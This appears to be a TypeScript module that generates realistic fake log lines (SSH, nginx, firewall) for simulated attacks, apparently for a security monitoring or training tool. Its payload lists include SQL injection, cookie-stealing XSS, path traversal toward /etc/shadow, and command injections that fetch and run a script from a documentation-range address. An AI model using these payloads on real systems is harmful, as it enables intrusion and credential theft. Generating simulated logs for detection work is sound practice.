import { randomInt } from 'node:crypto';

export const ATTACK_TYPES = ['brute_force', 'sql_injection', 'xss', 'path_traversal', 'command_injection', 'port_scan', 'password_spraying', 'path_scan'] as const;
export type AttackType = (typeof ATTACK_TYPES)[number];
export const INTENSITIES = ['low', 'medium', 'high'] as const;
export type Intensity = (typeof INTENSITIES)[number];

export interface GeneratedLine {
  line: string;
  timestamp: number;
}

/** Lines per intensity and the spacing between them (ms) per attack type. */
const SHAPE: Record<AttackType, { count: Record<Intensity, number>; spacingMs: Record<Intensity, number> }> = {
  brute_force: { count: { low: 6, medium: 15, high: 40 }, spacingMs: { low: 5000, medium: 2000, high: 500 } },
  password_spraying: { count: { low: 8, medium: 15, high: 30 }, spacingMs: { low: 4000, medium: 2000, high: 500 } },
  sql_injection: { count: { low: 3, medium: 8, high: 20 }, spacingMs: { low: 3000, medium: 1000, high: 250 } },
  xss: { count: { low: 3, medium: 8, high: 20 }, spacingMs: { low: 3000, medium: 1000, high: 250 } },
  path_traversal: { count: { low: 3, medium: 8, high: 20 }, spacingMs: { low: 3000, medium: 1000, high: 250 } },
  command_injection: { count: { low: 3, medium: 8, high: 20 }, spacingMs: { low: 3000, medium: 1000, high: 250 } },
  port_scan: { count: { low: 25, medium: 60, high: 200 }, spacingMs: { low: 200, medium: 50, high: 10 } },
  path_scan: { count: { low: 15, medium: 40, high: 100 }, spacingMs: { low: 500, medium: 200, high: 50 } },
};

const USERS = ['root', 'admin', 'ubuntu', 'oracle', 'postgres', 'test', 'guest', 'deploy', 'git', 'jenkins', 'ftp', 'support', 'user', 'mysql', 'www-data', 'pi', 'backup', 'operator', 'nagios', 'ansible'];
const SQLI = [
  "/products.php?id=1' OR '1'='1",
  '/products.php?id=1 UNION SELECT username,password FROM users--',
  "/login?user=admin'--&pass=x",
  '/item?id=1;DROP TABLE orders--',
  "/search?q=1' AND SLEEP(5)--",
  '/news?id=-1 UNION ALL SELECT NULL,table_name FROM information_schema.tables--',
];
const XSS = [
  '/search?q=<script>alert(document.cookie)</script>',
  '/comment?text=<img src=x onerror=alert(1)>',
  '/profile?name=<svg/onload=fetch("//198.51.100.66/"+document.cookie)>',
  '/page?ref=javascript:alert(String.fromCharCode(88,83,83))',
];
const TRAVERSAL = ['/download?file=../../../../etc/passwd', '/static/..%2f..%2f..%2f..%2fetc%2fshadow', '/view?page=....//....//....//etc/hosts', '/img?path=..\\..\\..\\windows\\win.ini'];
const COMMAND = ['/ping?host=127.0.0.1;cat /etc/passwd', '/dns?name=example.com|id', '/exec?cmd=`wget http://198.51.100.66/x.sh -O- | sh`', '/tools?ip=8.8.8.8 && uname -a', '/api/convert?file=a.png;$(curl 198.51.100.66)'];
const SCAN_PATHS = [
  '/admin', '/wp-login.php', '/.env', '/.git/config', '/phpmyadmin/', '/config.php.bak', '/server-status', '/backup.zip', '/.aws/credentials', '/actuator/env',
  '/cgi-bin/test.cgi', '/xmlrpc.php', '/administrator/', '/.DS_Store', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/debug/pprof', '/console', '/.svn/entries',
  '/api/swagger.json', '/db.sql', '/old/', '/test.php', '/info.php', '/wp-config.php~', '/.htpasswd',
];
const AGENTS = ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36', 'curl/8.4.0', 'Nikto/2.5.0', 'python-requests/2.31.0'];
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

const pad = (n: number, width = 2) => String(n).padStart(width, '0');
const pick = <T>(list: readonly T[], i: number) => list[i % list.length]!;

function syslogTime(ms: number) {
  const d = new Date(ms);
  return `${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
}
function nginxTime(ms: number) {
  const d = new Date(ms);
  return `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
}
/** nginx percent-encodes what a browser would not send raw; spaces and quotes in the request line. */
const encodePath = (path: string) => path.replace(/ /g, '%20').replace(/"/g, '%22');

function nginxLine(ip: string, ms: number, path: string, status: number, agent: string) {
  return `${ip} - - [${nginxTime(ms)}] "GET ${encodePath(path)} HTTP/1.1" ${status} ${randomInt(120, 9000)} "-" "${agent}"`;
}

/** A random address in 198.51.100.0/24 (TEST-NET-2, reserved for documentation): simulations never name a real host. */
export const simulatedSourceIp = () => `198.51.100.${randomInt(2, 254)}`;

export function simulationShape(type: AttackType, intensity: Intensity) {
  const shape = SHAPE[type];
  const count = shape.count[intensity];
  return { count, spacingMs: shape.spacingMs[intensity], durationS: Math.max(1, Math.ceil(((count - 1) * shape.spacingMs[intensity]) / 1000)) };
}

/** Realistic log lines (OpenSSH via syslog, nginx combined, ufw kernel) for one simulated attack ending at `endMs`. */
export function generateAttackLines(type: AttackType, intensity: Intensity, target: string, sourceIp: string, endMs: number): GeneratedLine[] {
  const { count, spacingMs } = simulationShape(type, intensity);
  const start = endMs - (count - 1) * spacingMs;
  const host = target.replace(/[^A-Za-z0-9.-]/g, '-').slice(0, 60) || 'server';
  const lines: GeneratedLine[] = [];
  const agent = pick(AGENTS, randomInt(0, AGENTS.length));
  for (let i = 0; i < count; i++) {
    const ms = start + i * spacingMs;
    const pid = 20000 + randomInt(0, 9999);
    let line: string;
    switch (type) {
      case 'brute_force':
        line = `${syslogTime(ms)} ${host} sshd[${pid}]: Failed password for root from ${sourceIp} port ${randomInt(32768, 60999)} ssh2`;
        break;
      case 'password_spraying':
        line = `${syslogTime(ms)} ${host} sshd[${pid}]: Failed password for invalid user ${pick(USERS, i)} from ${sourceIp} port ${randomInt(32768, 60999)} ssh2`;
        break;
      case 'sql_injection':
        line = nginxLine(sourceIp, ms, pick(SQLI, i), i % 3 === 0 ? 500 : 200, pick(AGENTS, 0));
        break;
      case 'xss':
        line = nginxLine(sourceIp, ms, pick(XSS, i), 200, agent);
        break;
      case 'path_traversal':
        line = nginxLine(sourceIp, ms, pick(TRAVERSAL, i), i % 2 === 0 ? 403 : 400, agent);
        break;
      case 'command_injection':
        line = nginxLine(sourceIp, ms, pick(COMMAND, i), 200, agent);
        break;
      case 'path_scan':
        line = nginxLine(sourceIp, ms, i < SCAN_PATHS.length ? SCAN_PATHS[i]! : `/${pick(SCAN_PATHS, i).slice(1)}.${i}`, 404, pick(AGENTS, 3));
        break;
      case 'port_scan': {
        const uptime = (ms / 1000) % 1_000_000;
        line =
          `${syslogTime(ms)} ${host} kernel: [${uptime.toFixed(6)}] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 ` +
          `SRC=${sourceIp} DST=10.0.0.5 LEN=44 TOS=0x00 PREC=0x00 TTL=49 ID=${randomInt(1, 65535)} PROTO=TCP SPT=${randomInt(40000, 65000)} ` +
          `DPT=${pick([22, 23, 25, 53, 80, 110, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 2049, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200, 27017], i) + Math.floor(i / 25) * 10000} WINDOW=1024 RES=0x00 SYN URGP=0`;
        break;
      }
    }
    lines.push({ line, timestamp: ms });
  }
  return lines;
}
